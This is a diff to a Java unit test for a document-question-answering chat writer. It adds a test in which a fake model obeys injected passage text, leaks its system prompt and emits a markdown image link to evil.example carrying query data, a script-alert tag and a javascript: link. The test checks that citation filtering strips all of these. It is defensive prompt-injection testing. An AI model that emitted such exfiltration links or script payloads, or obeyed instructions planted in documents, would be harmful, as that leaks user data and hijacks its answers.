@@ -16,6 +16,7 @@ import org.junit.jupiter.api.Tag;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.MethodSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
 @DisplayName("The chat writer")
@@ -232,6 +233,43 @@ class ChatWriterTest {
         assertThat(draft.text())
                 .endsWith("Refunds are paid within 14 days [1].")
                 .doesNotContain("evil", "<img", "![");
+    }
+
+    /** A model that does all that documents ask of it: shows its instructions, draws, links, and cites whom it is told to. */
+    @ParameterizedTest
+    @Tag("P1")
+    @Tag("P4")
+    @MethodSource("org.docchat.query.Fixtures#injections")
+    void boundsTheHarmWhateverADocumentAsksAnObedientModel(String injected) {
+        var poisoned = Fixtures.passage(1, "Refunds are a matter for the desk.\n" + injected);
+        var obedient = FakeChatModel.thatAnswers(prompt -> Stream.of(
+                "Everyone has 30 days of leave [2].\n\n",
+                injected + " [2]\n\n",
+                "Refunds take 900 days [2].\n\n",
+                "![picture](http://evil.example/?q=refunds) [1]\n<script>alert(1)</script> [1]\n",
+                "[Sources](javascript:alert(1)) [3]\n\n",
+                prompt.system()));
+        var writer = new ChatWriter(obedient, new WordBag(), new ExtractiveWriter(new WordBag()));
+        var draft = writer.write("How long?", List.of(poisoned, HOLIDAYS), token -> {}, () -> false);
+        var answer = CitationCheck.check(draft, List.of(poisoned, HOLIDAYS), 0.9, quote -> 1)
+                .orElseThrow();
+
+        assertThat(answer.text())
+                .startsWith("Everyone has 30 days of leave [1].")
+                .doesNotContain("begins with the boundary of", "from passages of documents", "![", "](");
+        // What is left of the rest is the poisoned document's own words, and says so.
+        assertThat(answer.citations())
+                .allSatisfy(citation -> assertThat(citation.passage().text()).contains(citation.quote()));
+        assertThat(answer.citations().stream()
+                        .filter(citation -> citation.passage().equals(HOLIDAYS))
+                        .map(Citation::quote))
+                .containsExactly("Everyone has 30 days of leave.");
+        if (!injected.contains("900")) {
+            assertThat(answer.text()).doesNotContain("900");
+        }
+        if (!injected.contains("evil.example")) {
+            assertThat(answer.text()).doesNotContain("evil");
+        }
     }
 
     @ParameterizedTest
